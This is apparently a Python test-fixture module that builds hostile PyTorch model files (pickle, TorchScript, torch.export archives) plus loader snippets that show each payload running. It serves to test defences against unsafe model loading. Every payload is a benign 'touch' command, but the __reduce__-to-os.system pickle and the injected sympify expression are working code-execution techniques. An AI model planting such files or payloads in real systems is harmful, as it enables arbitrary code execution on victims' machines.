"""Hostile PyTorch files: each would run ``touch <marker>`` if its loader executed code from it.

``HOSTILE[name](marker)`` returns ``(file name, bytes)``; ``NAIVE[name]`` is Python that loads such a file the way
torch allows by default (``path`` is bound), used to show that the payload is live.
"""
from __future__ import annotations

import io
import json
import os
import pickle
import re
import zipfile
from pathlib import Path
from typing import Callable


class Payload:
    """Unpickling it runs ``touch <marker>``."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _small_module():
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()).eval()


def _rewrite(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A copy of the zip ``data`` with each member passed through ``change(name, bytes)`` (None drops it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            new = change(info.filename, src.read(info))
            if new is not None:
                dst.writestr(info, new)
    return out.getvalue()


def legacy_pickle(marker: Path) -> tuple[str, bytes]:
    """torch.save's legacy (non-zip) format: a plain pickle stream."""
    import torch

    buf = io.BytesIO()
    torch.save(Payload(marker), buf, _use_new_zipfile_serialization=False)
    return "model.pth", buf.getvalue()


def zip_pickle(marker: Path) -> tuple[str, bytes]:
    """torch.save's zip format, whose data.pkl is hostile."""
    import torch

    buf = io.BytesIO()
    torch.save(Payload(marker), buf)
    return "model.pth", buf.getvalue()


def torchscript(member: str) -> Callable[[Path], tuple[str, bytes]]:
    """A real TorchScript archive whose ``member`` (data.pkl or constants.pkl) is replaced by a hostile pickle."""

    def build(marker: Path) -> tuple[str, bytes]:
        import torch

        buf = io.BytesIO()
        torch.jit.save(torch.jit.trace(_small_module(), torch.randn(2, 4)), buf)
        evil = pickle.dumps(Payload(marker), protocol=2)
        return "model.pth", _rewrite(buf.getvalue(), lambda name, d: evil if name.endswith("/" + member) else d)

    return build


def _program(dynamic: bool = False) -> bytes:
    import torch

    shapes = ({0: torch.export.Dim("batch")},) if dynamic else None
    program = torch.export.export(_small_module(), (torch.randn(2, 4),), dynamic_shapes=shapes)
    buf = io.BytesIO()
    torch.export.save(program, buf)
    return buf.getvalue()


def pt2_sample_inputs(marker: Path) -> tuple[str, bytes]:
    """A torch.export program whose example inputs (data/sample_inputs/model.pt, always a pickle) are hostile."""
    evil = pickle.dumps(Payload(marker), protocol=2)
    return "model.pt2", _rewrite(_program(), lambda name, d: evil if name.endswith("sample_inputs/model.pt") else d)


def pt2_pickled_weight(marker: Path) -> tuple[str, bytes]:
    """A weight marked ``use_pickle`` (torch loads those with weights_only=False) whose file is hostile."""
    evil = pickle.dumps(Payload(marker), protocol=2)

    def change(name: str, data: bytes) -> bytes:
        if name.endswith("model_weights_config.json"):
            config = json.loads(data)
            config["config"][next(iter(config["config"]))]["use_pickle"] = True
            return json.dumps(config).encode()
        return evil if name.endswith("data/weights/weight_0") else data

    return "model.pt2", _rewrite(_program(), change)


def pt2_shape_expression(marker: Path) -> tuple[str, bytes]:
    """No pickle at all: a symbolic shape expression, which torch.export.load passes to sympy.sympify (an eval)."""
    code = json.dumps(f"__import__('os').system('touch {marker}')")

    def change(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            return re.sub(r'"expr_str": "Symbol[^"]*"', lambda m: f'"expr_str": {code}', data.decode(), count=1).encode()
        return data

    return "model.pt2", _rewrite(_program(dynamic=True), change)


def pt2_native_code(marker: Path) -> tuple[str, bytes]:
    """An AOTInductor library packed in the archive (torch.export.load would dlopen it)."""
    data = _program()
    prefix = zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(f"{prefix}/data/aotinductor/model/model.so", b"\x7fELF not really")
    return "model.pt2", out.getvalue()


HOSTILE: dict[str, Callable[[Path], tuple[str, bytes]]] = {
    "legacy-pickle-pth": legacy_pickle,
    "zip-pickle-pth": zip_pickle,
    "torchscript-data-pkl": torchscript("data.pkl"),
    "torchscript-constants-pkl": torchscript("constants.pkl"),
    "pt2-sample-inputs": pt2_sample_inputs,
    "pt2-pickled-weight": pt2_pickled_weight,
    "pt2-shape-expression": pt2_shape_expression,
}

# How each file runs its payload when loaded as torch lets you (the TorchScript ones: their hostile member unpickled).
NAIVE = {
    "legacy-pickle-pth": "import torch; torch.load(path, weights_only=False)",
    "zip-pickle-pth": "import torch; torch.load(path, weights_only=False)",
    "torchscript-data-pkl": "import pickle, zipfile; z = zipfile.ZipFile(path); "
                            "pickle.loads(z.read(next(n for n in z.namelist() if n.endswith('/data.pkl'))))",
    "torchscript-constants-pkl": "import pickle, zipfile; z = zipfile.ZipFile(path); "
                                 "pickle.loads(z.read(next(n for n in z.namelist() if n.endswith('/constants.pkl'))))",
    "pt2-sample-inputs": "import torch; torch.export.load(path)",
    "pt2-pickled-weight": "import torch; torch.export.load(path)",
    "pt2-shape-expression": "import torch; torch.export.load(path)",
}
